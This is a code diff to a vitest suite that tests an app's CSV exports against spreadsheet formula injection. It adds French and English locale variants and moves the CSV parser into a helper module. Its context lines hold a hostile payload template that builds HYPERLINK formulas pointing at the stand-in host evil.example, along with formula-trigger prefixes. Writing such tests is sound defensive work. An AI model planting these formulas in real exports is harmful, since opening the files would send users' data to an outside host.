@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createApp } from '../../src/app.js';
 import { toCsv } from '../../src/shared/csv.js';
+import { parseCsv } from '../helpers/csv.js';
 import { CSV_TABLES } from '../../src/stats/csv.js';
 import { buildApp, signedIn } from '../helpers/app.js';
 import { openTestDatabase, type TestDatabase } from '../helpers/db.js';
@@ -20,31 +21,6 @@ import {
 const PREFIXES = ['=', '+', '-1+', '@', '\t=', '\r='];
 const hostile = (p: string, what: string) => `${p}HYPERLINK("http://evil.example/${what}","x")`;
 const FORMULA_START = /^[=+\-@\t\r]/;
-
-/** RFC 4180 cells, enough for the exports (quotes doubled, quoted separators and line breaks). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  const s = text.replace(/^\ufeff/, '');
-  for (let i = 0; i < s.length; i++) {
-    const ch = s[i];
-    if (quoted) {
-      if (ch === '"' && s[i + 1] === '"') ((cell += '"'), i++);
-      else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"' && cell === '') quoted = true;
-    else if (ch === ',') (row.push(cell), (cell = ''));
-    else if (ch === '\r' && s[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      ((row = []), (cell = ''), i++);
-    } else cell += ch;
-  }
-  if (cell !== '' || row.length) (row.push(cell), rows.push(row));
-  return rows;
-}
 
 let t: TestDatabase;
 let app: ReturnType<typeof createApp>;
@@ -146,7 +122,11 @@ describe('spreadsheet formula injection', () => {
         [w.po.user.email, '/withdrawals.csv?campaign=2026'],
         [admin.email, '/withdrawals.csv?campaign=2026'],
       ];
-      for (const [email, path] of exports) {
+      for (const [email, bare] of exports.flatMap(([e, p]) =>
+        (['fr', 'en'] as const).map((l) => [e, `${p}${p.includes('?') ? '&' : '?'}lang=${l}`]),
+      )) {
+        const path = bare;
+        const sep = path.endsWith('lang=fr') ? ';' : ',';
         clients[email] ??= await signedIn(app, email);
         const res = await clients[email].get(path);
         if (res.status !== 200) {
@@ -154,7 +134,7 @@ describe('spreadsheet formula injection', () => {
           continue;
         }
         expect(res.headers.get('content-type'), path).toContain('text/csv');
-        for (const [r, row] of parseCsv(await res.text()).entries())
+        for (const [r, row] of parseCsv(await res.text(), sep).entries())
           for (const cell of row) {
             for (const m of cell.matchAll(/evil\.example\/(\w+)/g)) reached.add(m[1]);
             if (FORMULA_START.test(cell))
